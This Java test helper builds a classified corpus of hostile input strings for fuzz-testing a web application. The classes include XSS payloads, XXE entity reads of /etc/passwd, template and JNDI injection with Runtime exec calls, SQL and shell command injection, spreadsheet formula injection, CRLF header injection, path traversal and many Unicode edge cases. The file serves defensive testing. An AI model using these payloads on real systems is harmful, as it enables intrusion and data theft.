package org.micromentoring.host.strict.hostile;

import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

/** Texts that have broken something somewhere, by what they aim at. Written for these tests, partly by combination. */
final class HostileStrings {
    /** What a script of ours calls when it is run; the recorder listens for it. */
    static final String CALL = "hostileRan(1)";

    private final Map<String, List<String>> byClass = new LinkedHashMap<>();

    private HostileStrings() {
    }

    /** All of them, by class. */
    static Map<String, List<String>> byClass() {
        HostileStrings made = new HostileStrings();
        made.html();
        made.languages();
        made.transports();
        made.characters();
        made.unicode();
        made.data();
        return made.byClass;
    }

    static List<String> all() {
        return byClass().values().stream().flatMap(List::stream).distinct().toList();
    }

    /** So many, some of each class, the same for the same seed; all of them with {@code -Dhostile=full}. */
    static List<String> sample(long seed, int many) {
        if (full()) {
            return all();
        }
        Random random = new Random(seed);
        List<List<String>> classes = new ArrayList<>(byClass().values().stream().map(ArrayList::new).toList());
        classes.forEach(each -> Collections.shuffle(each, random));
        Collections.shuffle(classes, random);
        List<String> some = new ArrayList<>();
        for (int round = 0; some.size() < many && round < 100; round++) {
            for (List<String> each : classes) {
                if (round < each.size() && some.size() < many) {
                    some.add(each.get(round));
                }
            }
        }
        return some.stream().distinct().collect(Collectors.toList());
    }

    static boolean full() {
        return "full".equals(System.getProperty("hostile"));
    }

    /** Changes with {@code -Dhostile.seed}; printed, so that a failure can be had again. */
    static long seed() {
        long seed = Long.getLong("hostile.seed", 20261122);
        System.out.println("hostile input: " + (full() ? "all " + all().size() + " texts" : "a sample of " + all().size() + " texts, -Dhostile.seed=" + seed
            + "; all with -Dhostile=full"));
        return seed;
    }

    private void add(String kind, String... texts) {
        byClass.computeIfAbsent(kind, it -> new ArrayList<>()).addAll(List.of(texts));
    }

    private void html() {
        for (String out : List.of("", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "*/", "</option></select>", "</noscript>")) {
            add("script", out + "<script>" + CALL + "</script>");
            add("handler", out + "<img src=x onerror=" + CALL + ">");
        }
        for (String tag : List.of("svg/onload", "body onload", "iframe onload", "video><source onerror", "details open ontoggle", "input autofocus onfocus", "marquee onstart",
            "select autofocus onfocus", "audio src onerror", "object data=x onerror", "math><mi//xlink:href", "style onload", "p onpointerover")) {
            add("handler", "<" + tag + "=" + CALL + ">");
        }
        add("attribute", "\" onmouseover=\"" + CALL, "' onfocus='" + CALL + "' autofocus='", "` onclick=`" + CALL, " onload=" + CALL + " ", "x\"style=\"x:expression(" + CALL + ")",
            "\"><a href=javascript:" + CALL + " id=x>", "\u00a0onclick=" + CALL, "\"/onerror=" + CALL + "/x=\"");
        add("scheme", "javascript:" + CALL, "JaVaScRiPt:" + CALL, "java\tscript:" + CALL, "&#106;avascript:" + CALL, "data:text/html,<script>" + CALL + "</script>",
            "vbscript:" + CALL, "\u0001javascript:" + CALL, "//evil.example/x.js", "https://evil.example/?a=b&c", "javascript://%0a" + CALL, "blob:x", "file:///etc/passwd");
        add("style", "</style><style>*{background:url(//evil.example)}", "x{}@import'//evil.example/a.css';", "background:url(javascript:" + CALL + ")",
            "expression(" + CALL + ")", "<link rel=stylesheet href=//evil.example/a.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;//evil.example>");
        add("markup", "<b>bold</b>", "&lt;b&gt;", "&amp;amp;", "&#60;script&#62;", "&nbsp;&copy;&hearts;", "<!-- comment -->", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "<ac:structured-macro ac:name=\"html\"/>", "<ac:link><ri:user ri:userkey=\"x\"/></ac:link>", "{html}x{html}",
            "<form action=//evil.example><input name=os_password>", "<template><slot></template>", "<svg><use href=data:image/svg+xml,x#x /></svg>", "a < b && c > d", "\"quoted\" 'text'", "<", ">", "&", "\"", "'");
    }

    private void languages() {
        add("velocity", "$v", "$v.name()", "$!{v}", "${v.class}", "$v.getClass().forName('java.lang.Runtime')", "#set($x=1)$x", "#foreach($i in [1..9])$i#end", "#include('/WEB-INF/web.xml')",
            "#parse('x.vm')", "#evaluate('$v')", "#define($d)x#end$d", "#if(true)x#end", "#macro(x)#end#x()", "##", "#*x*#", "#stop", "\\$v", "$t.get('micromentoring.confluence.tabs')", "#requireResource('x')", "$req.session",
            "#[[x]]#", "$100", "#1");
        add("expression", "${7*7}", "#{7*7}", "%{7*7}", "${jndi:ldap://127.0.0.1:1/a}", "${${lower:j}ndi:dns://127.0.0.1/a}", "${env:PATH}", "${sys:user.home}", "{{7*7}}", "{{constructor.constructor('" + CALL + "')()}}",
            "<%= 7*7 %>", "@{T(java.lang.Runtime).getRuntime().exec('id')}", "(#context['xwork'])", "__${7*7}__::x", "*{7*7}", "~{x}", "[[${7*7}]]", "{0}", "{0,number}", "{1,choice,0#x}", "''{0}''", "'{", "}");
        add("sql", "' OR '1'='1", "'; DROP TABLE \"AO_X\"; --", "\" OR \"\"=\"", "1; SELECT 1", "') UNION SELECT NULL--", "\\' OR 1=1 #", "x'/**/OR/**/1=1", "'||'x", "admin'--", "1)) OR ((1=1", "'; WAITFOR DELAY '0:0:1'--", "`x`", "$$x$$", "?", "?1", ":name");
        add("like", "%", "_", "%%%", "a_b", "100%", "\\%", "[a-z]", "%'", "\\", "\\\\", "*", "a*b?");
        add("shell", "; id", "| id", "`id`", "$(id)", "&& id", "> /tmp/x", "a\nid", "%COMSPEC%", "-rf /", "--help", "~root", "!!", "$IFS", "\\x3bid", "() { :;}; id");
        add("format", "%s%s%s%n", "%x", "%1$s", "%d", "%99999999s", "%", "%%", "{}", "{:>9}", "\\u0041", "\\x41", "\\n", "%c%p");
        add("regex", "(a+)+$", "((((((((((a*)*)*)*)*)*)*)*)*)*", ".*", "^$", "[", "(", "(?<x>a)\\k<x>", "\\Q", "\\E", "a{1,99999}", "(?s:.)*", "+", "?", "[^", "x|", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!");
    }

    private void transports() {
        add("header", "a\r\nSet-Cookie: x=1", "a\nLocation: //evil.example", "a\rb", "a\u2028b", "a\u2029b", "a\u0085b", "Bcc: all@example.org\r\n\r\nx", "%0d%0aX: 1", "a\r\n\r\n<html>", "\n", "\r\n", "=?utf-8?q?x?=", "a\u560d\u560ab");
        add("formula", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\")", "-2+3", "'=1", "''", "x;=1+1", "x\t=1", ";=1", "|=1", "\uff1d1+1", "\uff0b1", "\u2212 1", "\"=1\"", "=1,=2", "a\n=1");
        add("path", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "....//x", "%2e%2e%2f", "..%c0%afx", "C:\\x", "\\\\evil\\x", "file:x", "a/b", "a\\b", ".", "..", "/", "//", "CON", "a;b=c", "a?b#c", "%00", "x.jsp%00.png", "~x", "WEB-INF/web.xml");
        add("query", "a=b&c=d", "&", "#", "?", "+", "a+b", "%20", "%zz", "%u0041", ";jsessionid=1", "a,b", "a;b", "skill:1", "role:99999999999999999999", "1,2,3");
    }

    private void characters() {
        for (int c = 0; c < 0x20; c++) {
            add("control", "a" + (char) c + "b");
        }
        add("control", "\0", "\u007f", "\u0080", "\u009f", "\u0000\u0000", "\u001b[31mred", "\b\b\b");
        add("noncharacter", "a\ufffeb", "a\uffffb", "\ufdd0", new String(Character.toChars(0x1ffff)), new String(Character.toChars(0x10ffff)), "\ufffd", "\ufffc", "\ufff9x\ufffay\ufffb");
        add("surrogate", "\ud800", "\udc00", "\udc00\ud800", "a\ud83d", "\ud83db", "\ud800\ud800\udc00", "\udfff", "x\udbffy");
        add("space", "", " ", "   ", "\t", "\u00a0", "\u3000", "\u2003", "\u1680", "\u2000\u200a", "\u205f", "\u202f", "\u0085", "\u180e", "\u200b", "\ufeff", "\u2060", " a", "a ", "  a  b  ", "\ta\t", "\u00a0a\u00a0", "\na\n", "a\u3000b", "\u2800", "\u3164", "\u115f");
        add("bom", "\ufeffa", "a\ufeff", "\u00ef\u00bb\u00bfa", "\ufffea", "\u00ff\u00fea");
        add("invisible", "a\u200bb", "a\u200cb", "a\u200db", "a\u00adb", "a\u2060b", "\u200b\u200b", "a\ufe0fb", "a\u034fb", "a\u061cb", "\u180b", tagged("hi"), "a\u2063b", "\u17b4", "\u200d");
        add("direction", "\u202eevil\u202c", "\u202e", "\u2066x", "\u2067x\u2069", "\u2069\u2069", "\u200ftest\u200e", "\u05d0\u05d1 (abc) \u05d2", "\u0645\u0631\u062d\u0628\u0627", "a\u202ecod.exe", "\u202a\u202b\u202d\u202e\u2066\u2067\u2068", "\u2068\u202e<b>", "user\u202e gpj.exe");
    }

    private void unicode() {
        add("combining", "e" + "\u0301".repeat(40), "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324", "\u0301", "a\u20dd", "\u0e01\u0e49\u0e49\u0e49\u0e49", "\u0915\u094d\u0937\u094d\u092e", "o\u0308\u0304", "\u0334\u0335\u0336", "i\u0307", "\u1100\u1161\u11a8");
        add("lookalike", "\u0430dmin", "\uff41\uff44\uff4d\uff49\uff4e", "\u03bfption", "p\u0430ypal", "\u13a0", "\u2170\u2171", "\u2080\u2081", "\u24b6\u24b7", bold("admin"), "\u1d00\u1d05", "\u0131\u0130", "l1I|", "\uff1cscript\uff1e" + CALL + "\uff1c/script\uff1e", "\u2039script\u203a", "\u02bcscript\u02bc", "\uff02\uff07", "\u1fef");
        add("beyond", "\ud83d\ude80", "\ud834\udd1e", "\ud840\udc0b", "\ud83d\ude00".repeat(20), "\ud835\udd4f", "\udbc0\udc00", "a\ud83c\udf0db", "\ud80c\udc00", "\ud83a\udd00", "\ud808\udf09");
        add("emoji", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66", "\ud83c\udde9\ud83c\uddea", "\ud83c\udde9", "\ud83d\udc4d\ud83c\udfff", "1\ufe0f\u20e3", "\u2764\ufe0f", "\u2764\ufe0e", "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f", "\ud83c\udff3\ufe0f\u200d\ud83c\udf08", "\ud83c\udfff", "\u200d\u200d", "\ud83e\uddd1\u200d\ud83d\udcbb".repeat(5));
        for (String text : List.of("\u00e4\u00f6\u00fc\u00df", "\u212b", "\ufb01n", "\u1e9b\u0323", "\uac00", "\u0958", "\u2126", "\u00bd", "\u2460", "\u33a5", "\u3300", "\uf900")) {
            for (Normalizer.Form form : Normalizer.Form.values()) {
                add("normal", Normalizer.normalize(text, form));
            }
        }
        add("expanding", "\ufdfa", "\ufdfa".repeat(20), "\ufdfb", "\u1f82".repeat(30), "\ud834\udd60".repeat(10), "\u0390", "\ufb2c", "\u3316");
        add("case", "\u00df", "SS", "\u1e9e", "\u0130stanbul", "istanbul", "\u0131", "I\u0307", "\u03c3\u03c2", "\u039f\u0394\u039f\u03a3", "\u01c4\u01c5\u01c6", "\u0149", "\ufb03", "\u1fb7", "\u0345", "\u212a", "\u017f", "\u13f8\uab70", "\u1c80", "TITLE title", "\u10a0\u2d00", "\u1c90");
    }

    private void data() {
        add("long", "x".repeat(100), "W".repeat(149), "a ".repeat(99), "\u00fc".repeat(100), "-".repeat(100), "1".repeat(100), "\ud83d\ude80".repeat(50), "x".repeat(5_000), "a\u00ad".repeat(60), "\u4e00".repeat(100), "https://example.org/" + "x".repeat(80), "." .repeat(100));
        add("number", "0", "-0", "1", "-1", "1.5", "1e309", "-1e-400", "NaN", "Infinity", "-Infinity", "0x", "0x1F", "010", "1_000", "1,000", "1.000,00", "\uff11\uff12", "\u0661\u0662", "\u00b2", "\u0967", "2147483647", "2147483648", "9223372036854775808", "99999999999999999999", "1" + "0".repeat(400), "1L", "1f", "+1", "--1", "1 2", "\u2212" + "1", "", "true", "false", "null", "undefined", "None");
        add("date", "2026-02-30", "2024-02-29", "0000-00-00", "9999-12-31", "+1000000000-12-31", "-999999999-01-01", "1970-01-01", "2026-13-01", "31.12.2026", "12/31/2026", "2026-12-24T10:00Z", "2026-W01-1", "2026-366", "now", "24:00", "24:01", "23:59:60", "99:99", "9:00", "09:00:00.000000001", "-1:00", "12:30 PM", "\uff12026-01-01");
        add("zone", "Europe/Berlin", "UTC", "GMT+25", "+18:00", "+99:99", "Z", "EST", "europe/berlin", "Mars/Olympus", "Etc/GMT+12", "UTC+01:00", "SystemV/AST4", "../Europe/Berlin", "Europe/Berlin\0", "Europe/" + "x".repeat(70));
        add("tag", "en", "EN-us", "de-DE-1996", "zh-Hans-CN", "x-private", "und", "i-klingon", "en-a-bbb-a-ccc", "root", "tr", "de_DE", "en--us", "q", "*", "en;q=0.5", "art-lojban", "a".repeat(30), "sl-rozaj-biske-1994", "en-u-ca-buddhist");
        add("json", "{\"a\":1}", "[]", "\"", "\\\"", "\\u0000", "null", "{\"__proto__\":{}}", "__proto__", "constructor", "toString", "{\"@type\":\"java.lang.Thread\"}", "//x", "/*x*/", "\"}],\"x\":[{\"", "hasOwnProperty");
        add("word", "name", "type", "skill", "key", "field", "all", "0", "admin", "anonymous", "nobody", "me", "mine", "de", "Scunthorpe", "Null", "O'Neill", "D\u2019Arcy", "M\u00fcller-L\u00fcdenscheidt", "Nguy\u1ec5n", "\u5c71\u7530\u592a\u90ce", "\u0418\u0432\u0430\u043d", "C++", "C#", ".NET", "R", "F#/OCaml", "TCP/IP", "AT&T", "Q&A", "50%", "#1");
    }

    private static String tagged(String word) {
        return word.chars().map(c -> 0xe0000 + c).collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    }

    private static String bold(String word) {
        return word.chars().map(c -> 0x1d41a + c - 'a').collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    }
}
